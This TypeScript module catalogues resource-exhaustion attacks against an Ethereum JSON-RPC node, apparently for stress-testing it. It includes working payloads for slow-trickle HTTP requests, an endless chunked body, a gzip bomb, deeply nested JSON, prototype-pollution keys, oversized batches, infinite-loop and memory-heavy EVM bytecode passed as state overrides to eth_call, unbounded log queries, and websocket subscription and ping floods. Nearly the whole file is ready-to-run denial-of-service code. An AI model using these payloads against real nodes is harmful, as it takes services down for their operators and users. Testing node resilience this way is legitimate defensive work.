/** Every way we know of to make an RPC node do much for little. */
import { gzipSync } from 'node:zlib'
import { call, flood, post, type Target, trickle, withSocket } from './ask.ts'

export type Abuse = {
  readonly name: string
  /** Done so many times at once, each over again. */
  readonly atOnce: number
  readonly pauseMs: number
  /** In a word, what came of it. */
  run(target: Target): Promise<string>
}

const CONTRACT = `0x${'c0'.repeat(20)}`
const HOST = 'Host: localhost\r\n'
const POST = `POST / HTTP/1.1\r\n${HOST}Content-Type: application/json\r\n`

const LOOP = '0x5b5f56'
/** Ten million rounds of precompile 9, over and over. */
const BLAKE2F_LOOP = '0x630098968060e01b5f525b60405f60d55f60095afa50600a56'
/** 65,536 bytes, over and over. */
const MCOPY_LOOP = '0x5b620100005f5f5e5f56'
const RETURN_24_MB = '0x63018000005ff3'
const REVERT_24_MB = '0x63018000005ffd'
/** Calls itself with all it has, and 32 KiB of memory in each frame. */
const RECURSION = '0x61800051505f5f5f5f5f305af100'

const callCode = (code: string, method = 'eth_call') =>
  call(method, { to: CONTRACT, data: '0x' }, 'latest', { [CONTRACT]: { code } })

const once = (name: string, run: Abuse['run'], pauseMs = 100, atOnce = 1): Abuse => ({
  name,
  atOnce,
  pauseMs,
  run,
})
const asks = (name: string, body: string, atOnce = 1, pauseMs = 100): Abuse =>
  once(name, (target) => post(target, body), pauseMs, atOnce)

const DEEP = '['.repeat(1_000_000)
const MANY_ACCOUNTS = call(
  'eth_call',
  {},
  'latest',
  Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`0x${i.toString(16).padStart(40, '0')}`, {}])),
)
const TOPICS = Array.from({ length: 1000 }, (_, i) => `0x${i.toString(16).padStart(64, '0')}`)
const BOMB = gzipSync(new Uint8Array(50_000_000))
const CALLS_MAX = 250

export const ABUSES: readonly Abuse[] = [
  once('headers that trickle', (target) => trickle(target, 'POST / HTTP/1.1\r\nHost:', ' '), 10, 80),
  once(
    'bodies that trickle',
    (target) => trickle(target, `${POST}Content-Length: 1000\r\n\r\n{`, ' '),
    10,
    80,
  ),
  once('6 MB of body', (target) => post(target, ' '.repeat(6_000_000))),
  once('a body without end', (target) =>
    flood(
      target,
      `${POST}Transfer-Encoding: chunked\r\n\r\n`,
      Buffer.from(`4000\r\n${' '.repeat(0x4000)}\r\n`),
    ),
  ),
  once('a gzip bomb', (target) => post(target, BOMB, { 'content-encoding': 'gzip' })),
  asks('a million brackets', DEEP),
  asks('a number of a million digits', call('eth_getBlockByNumber', '9'.repeat(1_000_000), false)),
  asks('a quantity of a million digits', call('eth_getBlockByNumber', `0x${'9'.repeat(1_000_000)}`, false)),
  asks(
    '__proto__ and the same key twice',
    '{"jsonrpc":"2.0","id":1,"id":{"a":1},"__proto__":{"method":"x"},"method":"eth_chainId"}',
  ),
  asks('an id past all numbers', '{"jsonrpc":"2.0","id":1e400,"method":"eth_chainId"}'),
  asks('a batch of 1,001', `[${Array(1001).fill(call('eth_chainId')).join()}]`),
  asks('a batch of batches', `[${Array(1000).fill('[{}]').join()}]`),
  asks('a batch of calls that loop', `[${Array(CALLS_MAX).fill(callCode(LOOP)).join()}]`),
  asks(
    'a batch of log queries',
    `[${Array(100)
      .fill(call('eth_getLogs', { fromBlock: '0x0', toBlock: 'latest' }))
      .join()}]`,
  ),
  asks('10,000 parameters', call('eth_chainId', ...Array(10_000).fill(0)), 1, 50),
  asks('methods that do not exist', call('eth_nothing'), 4, 5),
  asks(
    'logs of all blocks, 1,000 topics',
    call('eth_getLogs', { fromBlock: '0x0', toBlock: 'latest', topics: [TOPICS] }),
    4,
    10,
  ),
  asks('all logs of all blocks', call('eth_getLogs', { fromBlock: '0x0', toBlock: 'latest' }), 4, 10),
  asks('a call that loops', callCode(LOOP), 4, 10),
  asks('a call of blake2f', callCode(BLAKE2F_LOOP), 2, 10),
  asks('a call of MCOPY', callCode(MCOPY_LOOP), 2, 10),
  asks('a call with much memory in many frames', callCode(RECURSION), 2, 10),
  asks('a call that returns 24 MB', callCode(RETURN_24_MB), 1, 10),
  asks('a call that reverts with 24 MB', callCode(REVERT_24_MB), 1, 10),
  asks('an estimate that loops', callCode(LOOP, 'eth_estimateGas'), 2, 10),
  asks('60,000 overrides', MANY_ACCOUNTS),
  asks(
    'a trace of a loop',
    call('debug_traceCall', { to: CONTRACT }, 'latest', { stateOverrides: { [CONTRACT]: { code: LOOP } } }),
    1,
    10,
  ),
  asks(
    'a simulation of loops',
    call(
      'eth_simulateV1',
      {
        blockStateCalls: [
          { stateOverrides: { [CONTRACT]: { code: LOOP } }, calls: Array(100).fill({ to: CONTRACT }) },
        ],
      },
      'latest',
    ),
    1,
    10,
  ),
  asks('a billion blocks of fees', call('eth_feeHistory', '0x3b9aca00', 'latest', [0, 50, 100]), 2, 20),
  asks('filters without end', call('eth_newFilter', {}), 4, 5),
  asks('blocks with all they have', call('eth_getBlockByNumber', 'latest', true), 4, 5),
  once('10,000 subscriptions', subscribeMuch, 100, 4),
  once('a client that asks and never reads', neverRead, 500, 2),
  once('frames of 1 MB', (target) => sendFrames(target, 'x'.repeat(1_000_000), 20), 100),
  once('a flood of pings', pingMuch, 100, 2),
]

function subscribeMuch(target: Target): Promise<string> {
  return withSocket(target, (socket) => {
    const last = answerTo(socket, 9_999)
    for (let id = 0; id < 10_000; id++)
      socket.send(JSON.stringify({ jsonrpc: '2.0', id, method: 'eth_subscribe', params: ['logs', {}] }))
    return last
  })
}

function neverRead(target: Target): Promise<string> {
  return withSocket(target, (socket) => {
    socket.pause()
    const asked = call('eth_getBlockByNumber', 'latest', true)
    const timer = setInterval(() => {
      for (let i = 0; i < 100; i++) socket.send(asked)
    }, 50)
    return closed(socket, 10_000).finally(() => clearInterval(timer))
  })
}

function sendFrames(target: Target, frame: string, count: number): Promise<string> {
  return withSocket(target, (socket) => {
    for (let i = 0; i < count; i++) socket.send(frame)
    return closed(socket, 5_000)
  })
}

function pingMuch(target: Target): Promise<string> {
  return withSocket(target, (socket) => {
    socket.pause()
    const timer = setInterval(() => {
      for (let i = 0; i < 500; i++) socket.ping('x'.repeat(125))
    }, 20)
    return closed(socket, 10_000).finally(() => clearInterval(timer))
  })
}

function answerTo(socket: import('ws').WebSocket, id: number): Promise<string> {
  return new Promise((resolve) => {
    socket.on('message', (data) => {
      const answer = JSON.parse(String(data))
      if (answer.id === id) resolve(answer.error === undefined ? 'subscribed' : String(answer.error.code))
    })
    socket.once('close', () => resolve('closed'))
  })
}

function closed(socket: import('ws').WebSocket, waitMs: number): Promise<string> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve('stayed'), waitMs)
    socket.once('close', () => {
      clearTimeout(timer)
      resolve('closed')
    })
  })
}
